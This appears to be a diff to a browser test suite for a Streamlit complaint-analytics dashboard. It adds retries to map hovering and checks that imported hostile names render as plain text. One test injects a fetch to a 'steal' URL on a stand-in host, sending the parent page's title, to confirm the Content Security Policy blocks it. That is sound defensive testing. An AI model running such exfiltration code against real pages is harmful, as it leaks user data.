@@ -20,7 +20,7 @@ pytestmark = pytest.mark.browser
 browserkit.require_browser()
 
 MAP = "iframe[title='streamlit_folium.st_folium']"
-SHOWN_MAP = f"{MAP} >> visible=true"  # a page's map, not one a rerun has left behind, hidden
+SHOWN_MAP = browserkit.SHOWN_MAP
 ALL = ["总览", "诉求热力图", "四级服务矩阵", "网格办结率", "考核排名与红黑榜", "研判预警"]
 # 研判预警's sections with a map (预警 is first, without), and a text only that section shows
 ANALYSIS_SECTIONS = {"热点": "分析单元", "新兴热点": "分类别检验", "重复诉求": "距离（米）"}
@@ -51,11 +51,17 @@ def _settle(page) -> None:
 
 def _hover_map(page) -> None:
     """Move over the map where the grids are, so every tooltip under the pointer is drawn."""
-    frame = page.locator(SHOWN_MAP).first
-    frame.wait_for(timeout=60_000)
-    frame.content_frame.locator(".leaflet-container").wait_for(timeout=60_000)
-    box = frame.bounding_box()
-    assert box is not None
+    box = None
+    for _ in range(40):  # a rerun may hide the frame between finding it and measuring it: look again
+        _settle(page)
+        frame = page.locator(SHOWN_MAP).first
+        frame.wait_for(timeout=60_000)
+        frame.content_frame.locator(".leaflet-container").wait_for(timeout=60_000)
+        box = frame.bounding_box()
+        if box is not None:
+            break
+        page.wait_for_timeout(250)
+    assert box is not None, "the page's map never stayed shown long enough to be measured"
     for fx, fy in ((0.5, 0.5), (0.3, 0.3), (0.7, 0.7), (0.3, 0.7), (0.7, 0.3)):
         page.mouse.move(box["x"] + box["width"] * fx, box["y"] + box["height"] * fy)
         page.wait_for_timeout(150)
@@ -87,9 +93,9 @@ def test_no_imported_text_runs_on_any_page(server: str, browser, role: str) -> N
                 _settle(page)
             if page.locator(SHOWN_MAP).count():
                 _hover_map(page)
-                tooltip = page.locator(SHOWN_MAP).first.content_frame.locator(".leaflet-tooltip")
-                if tooltip.count():  # the hostile name is shown as the text it is
-                    assert "<" in tooltip.first.inner_text() or "[" in tooltip.first.inner_text()
+                tips = page.locator(SHOWN_MAP).first.content_frame.locator(".leaflet-tooltip").all_inner_texts()
+                if tips:  # the hostile name is shown as the text it is
+                    assert "<" in tips[0] or "[" in tips[0], tips
             assert page.locator("[data-testid=stException]").count() == 0, (role, name, section)
         assert page.locator("[data-testid=stException]").count() == 0, (role, name)
         # No link or image from the data: the only links are the app's own navigation.
@@ -109,14 +115,16 @@ def test_the_map_frame_may_not_talk_to_another_origin(server: str, browser) -> N
     browserkit.log_in(page, server, "head")
     page.get_by_role("link", name="诉求热力图").click()
     page.locator(MAP).first.wait_for(timeout=60_000)
-    frame = page.frame(url=lambda u: "streamlit_folium" in u)
-    assert frame is not None
-    verdict = frame.evaluate(
+    _settle(page)
+    verdict = browserkit.eval_in_map(
+        page,
         """() => new Promise(done => {
             document.addEventListener('securitypolicyviolation', e => done('blocked:' + e.violatedDirective));
             fetch('http://127.0.0.2:9/steal?who=' + encodeURIComponent(parent.document.title)).catch(() => {});
             setTimeout(() => done('not blocked'), 5000);
-        })"""
+        })""",
+        until=lambda v: isinstance(v, str),
+        tries=20,
     )
     assert verdict.startswith("blocked:connect-src")
     assert outside == []
